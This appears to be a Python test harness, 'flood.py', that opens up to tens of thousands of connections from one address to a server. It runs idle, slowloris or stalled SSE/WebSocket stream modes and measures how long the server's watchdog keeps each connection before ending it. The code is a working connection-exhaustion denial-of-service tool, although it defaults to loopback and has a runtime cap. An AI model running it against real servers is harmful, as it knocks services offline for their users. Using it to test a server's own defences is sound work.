#!/usr/bin/env python3
"""The attacker: holds up to N connections to a server from one source address and
keeps reopening those the server ends, at most RATE new connections a second.

    flood.py --target 127.0.0.1:PORT --source 127.0.0.2 --kind idle|slowloris|streams -n 20000

Kinds:
  idle       connects and never sends a byte.
  slowloris  sends a request's headers one byte a second, never finishing them.
  streams    opens SSE (even slots) and WebSocket (odd slots) streams, reads the
             response head, then never reads again.

One epoll loop, no threads. Every second it prints a JSON status line to stdout;
on stdin it takes `hold` (stop reopening connections) and `quit` (print the final
summary line, reset every socket and exit). It also quits by itself after
--max-seconds, so no run can outlive its driver. Sockets are closed with a reset
(SO_LINGER 0), so neither side keeps TIME_WAIT entries between cases.
"""

import argparse
import collections
import errno
import heapq
import json
import os
import select
import socket
import struct
import sys
import time

IP_BIND_ADDRESS_NO_PORT = 24  # linux/in.h: pick the port at connect(), per 4-tuple
ETHERNET_MSS = 1448
CONNECT_TIMEOUT = 10.0
# An idle or slow connection the server ends sooner than this was refused, not timed out.
REFUSED_WITHIN = 0.5
# A byte a second from the first: the request line and headers, never the blank line.
SLOW_BYTES = b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: " + b"a" * 4000
WS_KEY = "dGhlIHNhbXBsZSBub25jZQ=="


class Conn:
    """One attacker connection, from connect() until the server ends it."""

    __slots__ = ("slot", "sock", "kind", "state", "opened", "connected", "stopped", "sent", "status")

    def __init__(self, slot, sock, kind, now):
        self.slot = slot
        self.sock = sock
        self.kind = kind  # idle, slowloris, sse, ws
        self.state = "connecting"  # connecting, open (idle/slowloris), head, stalled
        self.opened = now
        self.connected = None
        self.stopped = None  # a stream: when it stopped reading
        self.sent = 0
        self.status = None  # the status of an answer, if any came


def request_for(kind, host):
    if kind == "sse":
        return f"GET /api/v1/sse HTTP/1.1\r\nHost: {host}\r\nAccept: text/event-stream\r\n\r\n".encode()
    return (
        f"GET /api/v1/ws HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        f"Sec-WebSocket-Key: {WS_KEY}\r\nSec-WebSocket-Version: 13\r\n\r\n"
    ).encode()


def status_of(data):
    """The status code at the start of an HTTP answer, or 0."""
    if data.startswith(b"HTTP/1.") and len(data) >= 12 and data[9:12].isdigit():
        return int(data[9:12])
    return 0


class Flood:
    """The epoll loop and every connection it holds."""

    def __init__(self, args):
        self.args = args
        host, port = args.target.rsplit(":", 1)
        self.target = (host, int(port))
        self.host_header = args.target
        self.epoll = select.epoll()
        self.conns = {}  # fd -> Conn
        self.pending = collections.deque(range(args.n))  # slots waiting to (re)connect
        self.slow = []  # heap of (due, fd, id, conn): slowloris's next byte
        self.tokens = 0.0
        self.reopen = True
        self.started = time.monotonic()
        self.counts = collections.Counter()
        # Seconds each connection was held: idle/slowloris from connect to the server
        # ending it; streams from the moment they stopped reading to the server ending it.
        self.held = collections.defaultdict(list)
        self.epoll.register(sys.stdin.fileno(), select.EPOLLIN)

    def kind_for(self, slot):
        if self.args.kind == "streams":
            return "sse" if slot % 2 == 0 else "ws"
        return self.args.kind

    def open(self, slot, now):
        try:
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        except OSError as error:
            # Out of files (EMFILE): this process holds all it may.
            self.counts[f"no socket {errno.errorcode.get(error.errno, error.errno)}"] += 1
            self.pending.appendleft(slot)
            return False
        sock.setblocking(False)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        sock.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
        # An attacker comes over a network: Ethernet-sized segments, as the server's
        # watchdog sees them from anyone but a local proxy (on loopback's 64 KiB
        # segments a reader's window can look stuck for 128 KiB, so the watchdog
        # waits that long before it lets a loopback stream go).
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, ETHERNET_MSS)
        try:
            sock.bind((self.args.source, 0))
            sock.connect_ex(self.target)
        except OSError as error:
            self.counts[f"connect error {errno.errorcode.get(error.errno, error.errno)}"] += 1
            sock.close()
            self.pending.append(slot)
            return False
        conn = Conn(slot, sock, self.kind_for(slot), now)
        self.conns[sock.fileno()] = conn
        self.epoll.register(sock.fileno(), select.EPOLLOUT)
        self.counts["attempts"] += 1
        return True

    def end(self, conn, outcome, now):
        """Forgets a connection (with a reset) and queues its slot again."""
        fd = conn.sock.fileno()
        self.counts[outcome] += 1
        try:
            self.epoll.unregister(fd)
        except OSError:
            pass
        del self.conns[fd]
        conn.sock.close()
        conn.state = "closed"
        self.pending.append(conn.slot)

    def on_connected(self, fd, conn, now):
        error = conn.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
        if error:
            self.end(conn, f"connect error {errno.errorcode.get(error, error)}", now)
            return
        conn.connected = now
        if conn.kind == "idle":
            conn.state = "open"
        elif conn.kind == "slowloris":
            conn.state = "open"
            self.send_slow(fd, conn, now)
        else:
            conn.state = "head"
            try:
                conn.sock.send(request_for(conn.kind, self.host_header))
            except OSError:
                self.end(conn, "reset before the head", now)
                return
        self.epoll.modify(fd, select.EPOLLIN | select.EPOLLRDHUP)

    def send_slow(self, fd, conn, now):
        try:
            conn.sock.send(SLOW_BYTES[conn.sent % len(SLOW_BYTES):][:1])
        except OSError:
            return  # the server ended it: the read side reports it
        conn.sent += 1
        heapq.heappush(self.slow, (now + 1.0, fd, id(conn), conn))

    def on_readable(self, fd, conn, events, now):
        if conn.state == "stalled":
            # Only EPOLLRDHUP/HUP/ERR are asked for: the server has let it go.
            self.held[conn.kind].append(now - conn.stopped)
            self.end(conn, f"{conn.kind} let go", now)
            return
        if conn.state == "head":
            try:
                peek = conn.sock.recv(8192, socket.MSG_PEEK)
            except OSError:
                self.end(conn, "reset before the head", now)
                return
            end = peek.find(b"\r\n\r\n")
            if end < 0:
                if not peek:
                    self.end(conn, "closed before the head", now)
                elif events & (select.EPOLLRDHUP | select.EPOLLHUP):
                    self.end(conn, f"answered {status_of(peek)}", now)
                return
            conn.sock.recv(end + 4)  # the head only; what follows is never read
            status = status_of(peek)
            if status in (101, 200):
                conn.state = "stalled"
                conn.stopped = now
                self.epoll.modify(fd, select.EPOLLRDHUP)
            else:
                self.end(conn, f"answered {status}", now)
            return
        # idle or slowloris: the only thing to read is the server's answer or its close.
        try:
            data = conn.sock.recv(8192)
        except OSError:
            data = None
        if data:
            conn.status = conn.status or status_of(data)
            if not events & (select.EPOLLRDHUP | select.EPOLLHUP):
                return
        if conn.status:
            self.end(conn, f"answered {conn.status}", now)
        elif now - conn.connected < REFUSED_WITHIN:
            # A refusal the server had no time to explain (it explains 32 at once).
            self.end(conn, "refused without an answer", now)
        else:
            self.held[conn.kind].append(now - conn.connected)
            self.end(conn, "let go by the server" if data is not None else "reset by the server", now)

    def command(self):
        line = sys.stdin.readline()
        if not line or line.strip() == "quit":
            return False
        if line.strip() == "hold":
            self.reopen = False
            self.pending.clear()
        return True

    def status(self, now):
        states = collections.Counter(c.state for c in self.conns.values())
        held = states["stalled"] + sum(1 for c in self.conns.values() if c.state == "open" and not c.status)
        line = {
            "t": round(now - self.started, 2),
            "held": held,
            "connecting": states["connecting"],
            "open": len(self.conns),
            "counts": dict(self.counts),
        }
        print(json.dumps(line), flush=True)

    def summary(self):
        out = {}
        for kind, values in self.held.items():
            values.sort()
            pick = lambda q: round(values[min(len(values) - 1, int(q * len(values)))], 2)
            out[kind] = {"n": len(values), "min": round(values[0], 2), "p50": pick(0.5), "p99": pick(0.99),
                         "max": round(values[-1], 2)}
        # Streams still stalled at the end were held at least this long.
        for conn in self.conns.values():
            if conn.state == "stalled":
                age = time.monotonic() - conn.stopped
                key = f"{conn.kind} still held"
                out.setdefault(key, {"n": 0, "longest": 0.0})
                out[key]["n"] += 1
                out[key]["longest"] = round(max(out[key]["longest"], age), 2)
        print(json.dumps({"summary": out, "counts": dict(self.counts)}), flush=True)

    def run(self):
        last_status = last_tokens = time.monotonic()
        deadline = self.started + self.args.max_seconds
        while time.monotonic() < deadline:
            now = time.monotonic()
            self.tokens = min(self.args.rate / 10, self.tokens + (now - last_tokens) * self.args.rate)
            last_tokens = now
            while self.reopen and self.pending and self.tokens >= 1:
                if self.open(self.pending.popleft(), now):
                    self.tokens -= 1
                else:
                    break  # out of ports or files: try again on the next turn
            while self.slow and self.slow[0][0] <= now:
                _, fd, _, conn = heapq.heappop(self.slow)
                if conn.state == "open":
                    self.send_slow(fd, conn, now)
            if now - last_status >= 1.0:
                self.expire(now)
                self.status(now)
                last_status = now
            for fd, events in self.epoll.poll(0.005 if self.pending and self.reopen else 0.05, 4096):
                now = time.monotonic()
                if fd == sys.stdin.fileno():
                    if not self.command():
                        return
                    continue
                conn = self.conns.get(fd)
                if conn is None:
                    continue
                if conn.state == "connecting":
                    self.on_connected(fd, conn, now)
                else:
                    self.on_readable(fd, conn, events, now)

    def expire(self, now):
        for conn in [c for c in self.conns.values() if c.state == "connecting" and now - c.opened > CONNECT_TIMEOUT]:
            self.end(conn, "connect timeout", now)


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--target", required=True, help="host:port of the server")
    parser.add_argument("--source", default="127.0.0.2", help="address the connections come from")
    parser.add_argument("--kind", choices=["idle", "slowloris", "streams"], required=True)
    parser.add_argument("-n", type=int, default=20000, help="connections to hold")
    parser.add_argument("--rate", type=float, default=5000, help="most new connections a second")
    parser.add_argument("--max-seconds", type=float, default=300, help="quit after this long whatever happens")
    flood = Flood(parser.parse_args())
    try:
        flood.run()
    finally:
        flood.summary()


if __name__ == "__main__":
    main()
